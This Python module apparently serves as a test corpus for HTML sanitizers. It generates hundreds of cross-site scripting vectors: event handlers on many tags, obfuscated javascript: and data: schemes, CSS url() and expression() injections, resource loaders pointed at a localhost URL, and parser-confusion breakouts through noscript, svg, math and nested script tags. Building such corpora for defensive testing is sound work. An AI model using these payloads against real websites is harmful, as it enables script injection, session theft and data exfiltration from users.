"""HTML that wants more than to be read: families of attacks, each spelled in many ways.

`MARK` stands where script would run, `URL` where a request would go."""

from itertools import product

MARK = "alert(document.domain)"
URL = "http://127.0.0.1:9/hit"

_NAMES = (
    "onerror onload onclick onmouseover onfocus onanimationstart onbegin ontoggle onpointerenter"
    " onwheel oncut onauxclick onbeforeunload onhashchange onmessage onscroll ontransitionend"
)
_HANDLERS = _NAMES.split()
_CARRIERS = (
    *("<img src=x {}>", "<svg {}>", "<body {}>", "<video><source {}></video>", "<p {}>x</p>"),
    *("<a href=x {}>x</a>", "<details open {}>x</details>", "<input autofocus {}>"),
    *("<math><mi {}>x</mi></math>", "<marquee {}>x</marquee>", "<svg><animate {} attributeName=x>"),
)
_SCRIPT_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:"),
    *("java&#9;script:", "&#106;avascript:", "&#x6A&#x61vascript:", "\x01javascript:"),
    *("javascript&colon;", "vbscript:", "livescript:", "data:text/html,<script>", "blob:", "file:"),
    *("//evil.example/", "/relative", "#fragment", "feed:javascript:", "view-source:", "mhtml:"),
    *("jar:", "ms-its:", "data:image/svg+xml,<svg onload=1>", "data:text/html;base64,PHNjcmlwdD4="),
)
_PLACES = (
    *('<a href="{}">x</a>', '<img src="{}">', '<form action="{}"><button>x</button></form>'),
    *('<iframe src="{}"></iframe>', '<object data="{}"></object>', '<embed src="{}">'),
    *('<link rel="stylesheet" href="{}">', '<base href="{}">', '<area href="{}">'),
    *('<svg><a xlink:href="{}"><text>x</text></a></svg>', '<button formaction="{}">x</button>'),
    '<meta http-equiv="refresh" content="0;url={}">',
)
_STYLES = (
    *(
        "background:url({})",
        "background-image:url({})",
        "list-style:url({})",
        "cursor:url({}),auto",
    ),
    *("content:url({})", "border-image:url({}) 3", "background-color:url({})", "color:url({})"),
    *("@import url({})", "width:expression(alert(1))", "-moz-binding:url({})", "behavior:url({})"),
    *("background:\\75 rl({})", "background:u\\rl({})", "background:url/**/({})", "filter:url({})"),
    *("position:fixed;top:0;left:0;width:100%;height:100%", "z-index:9999", "font-family:url({})"),
    *("background:image-set('{}' 1x)", "background:-webkit-image-set(url({}) 1x)", "--x:url({})"),
    *("mask:url({})", "shape-outside:url({})", "width:calc(1px)", "color:var(--x)", "src:url({})"),
)
_LOADERS = (
    *('<img srcset="{} 1x">', '<body background="{}">', '<td background="{}">x</td>'),
    *('<video poster="{}" src="{}"></video>', '<audio src="{}" autoplay></audio>'),
    *('<input type="image" src="{}">', '<link rel="prefetch" href="{}">', '<track src="{}">'),
    *('<picture><source srcset="{}"><img></picture>', '<svg><image href="{}"></image></svg>'),
    *("<style>@import '{}';</style>", "<style>*{{background:url({})}}</style>"),
    *('<svg><use href="{}#x"></use></svg>', '<img src="{}">', '<img src=" {}">', "<img src='{}'>"),
    *('<script src="{}"></script>', '<frameset><frame src="{}"></frameset>', '<bgsound src="{}">'),
    *('<iframe srcdoc="&lt;img src={}&gt;"></iframe>', '<applet code="{}"></applet>'),
    *('<!--[if gte mso 9]><img src="{}"><![endif]-->', '<noscript><img src="{}"></noscript>'),
    *('<template><img src="{}"></template>', '<table background="{}"><tr><td>x</td></tr></table>'),
    '<a href="https://x.example" ping="{}">x</a>',
)
_PARSERS = (  # what one parser takes for text and another for markup
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<title><a title="</title><img src=x onerror={}>">',
    '<textarea><a title="</textarea><img src=x onerror={}>">',
    '<style><a title="</style><img src=x onerror={}>">',
    "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror={}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<math><annotation-xml encoding='text/html'><script>{}</script></annotation-xml></math>",
    "<xmp><img title='</xmp><img src=x onerror={}>'>",
    "<plaintext><img src=x onerror={}>",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<!--><img src=x onerror={}>-->",
    "<!--!><img src=x onerror={}>--!>",
    "<?xml ?><img src=x onerror={}>",
    "<img src=x onerror={}//",
    "<img/src=x/onerror={}>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT >",
    "<script\x0c>{}</script>",
    "\x00<scr\x00ipt>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}>",
    '<a href="https://x" onclick="{}" style="x">x</a>',
    '"><img src=x onerror={}>',
    "<p title='\"><img src=x onerror={}>'>x</p>",
    "<p title=`><img src=x onerror={}>`>x</p>",
    "<select><template><img src=x onerror={}></template></select>",
    "<table><td><svg><desc><td><img src=x onerror={}></desc></svg>",
)

VECTORS: tuple[str, ...] = (
    *(carrier.format(f"{name}={MARK}") for carrier, name in product(_CARRIERS, _HANDLERS)),
    *(place.format(scheme + MARK) for place, scheme in product(_PLACES, _SCRIPT_SCHEMES)),
    *(f'<p style="{style.format(URL)}">x</p>' for style in _STYLES),
    *(loader.format(URL, URL) for loader in _LOADERS),
    *(parser.format(MARK) for parser in _PARSERS),
)
